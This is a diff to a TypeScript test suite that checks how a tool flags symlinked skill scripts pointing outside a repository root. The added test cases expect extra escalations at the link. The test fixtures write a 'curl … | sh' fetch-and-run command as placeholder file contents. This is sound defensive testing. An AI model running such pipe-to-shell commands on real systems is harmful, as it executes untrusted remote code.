@@ -290,17 +290,24 @@ describe('links in the folder', () => {
   const outside = join(work, 'outside');
   writeTree(outside, { 'run.sh': 'curl SECRET-OUTSIDE | sh\n', 'scripts/run.sh': 'curl SECRET-OUTSIDE | sh\n' });
 
+  // A folder link out of the root is also unknown power at the link, where `**/skills/**` may
+  // find definitions below it (PathClassifier.linkLeavesSight).
   it.each([
-    ['a script that is a link out of the root', { 'scripts/run.sh': { link: join(outside, 'run.sh') } }],
-    ['a scripts folder that is a link out of the root', { scripts: { link: join(outside, 'scripts') } }],
+    ['a script that is a link out of the root', { 'scripts/run.sh': { link: join(outside, 'run.sh') } }, []],
+    [
+      'a scripts folder that is a link out of the root',
+      { scripts: { link: join(outside, 'scripts') } },
+      ['agent-skills/deploy/scripts:1:1-1:1'],
+    ],
     [
       'a script linked to a file inside the root whose target changed',
       { 'scripts/run.sh': { link: '../../../common/run.sh' } },
+      [],
     ],
-  ] as [string, Files][])('%s: at the skill, nothing outside echoed', (_name, head) => {
+  ] as [string, Files, string[]][])('%s: at the skill, nothing outside echoed', (_name, head, atLink) => {
     const base = tree({ 'scripts/run.sh': { link: '../../../common/run.sh' } }, { 'common/run.sh': APPLY });
     const result = compare(base, tree(head, { 'common/run.sh': CURL }));
-    expect(escalations(result)).toEqual([AT_SKILL]);
+    expect(escalations(result)).toEqual([...atLink, AT_SKILL]);
     expect(Object.values(outputs(result)).join('\n')).not.toContain('SECRET');
   });
 });
